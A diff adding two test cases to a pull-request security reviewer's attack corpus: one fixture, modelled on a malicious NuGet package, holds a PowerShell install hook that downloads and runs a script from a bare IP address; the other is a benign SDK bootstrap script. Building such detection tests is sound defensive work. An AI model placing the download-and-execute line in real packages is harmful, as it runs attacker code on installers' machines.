@@ -315,4 +315,43 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
   },
+  {
+    id: 'attack-nuget-init-ps1-downloads',
+    description: 'JFrog, March 2023 (malicious NuGet packages): tools/init.ps1, which Visual Studio runs when the package is installed, runs Invoke-Expression on a script downloaded from a bare IP address.',
+    fixture: () =>
+      attackPr({
+        repo: 'Acme.Json',
+        number: 7111,
+        title: 'Add package tools',
+        author: 'newcomer',
+        files: [
+          { path: 'src/Acme.Json/tools/init.ps1', head: lines('param($installPath, $toolsPath, $package, $project)', '$ErrorActionPreference = "SilentlyContinue"', "iex ((New-Object System.Net.WebClient).DownloadString('http://45.77.12.9/nuget/init.ps1'))") },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'], drivers: ['finding:curl-pipe-shell'] },
+  },
+  {
+    id: 'attack-build-ps1-dotnet-install',
+    description: "A maintainer's build.ps1 downloads dotnet-install.ps1 to a file and runs it for a pinned SDK version, as the .NET documentation shows.",
+    fixture: () =>
+      attackPr({
+        repo: 'Acme.Json',
+        number: 7112,
+        title: 'build: bootstrap the SDK on Windows',
+        files: [
+          {
+            path: 'build.ps1',
+            head: lines(
+              '$ErrorActionPreference = "Stop"',
+              '$SdkVersion = "8.0.404"',
+              '$Installer = Join-Path $env:TEMP "dotnet-install.ps1"',
+              'Invoke-WebRequest -Uri "https://dot.net/v1/dotnet-install.ps1" -OutFile $Installer',
+              '& $Installer -Version $SdkVersion -InstallDir "$PSScriptRoot/.dotnet"',
+              '& "$PSScriptRoot/.dotnet/dotnet" build -c Release',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:curl-pipe-shell'] },
+  },
 ];
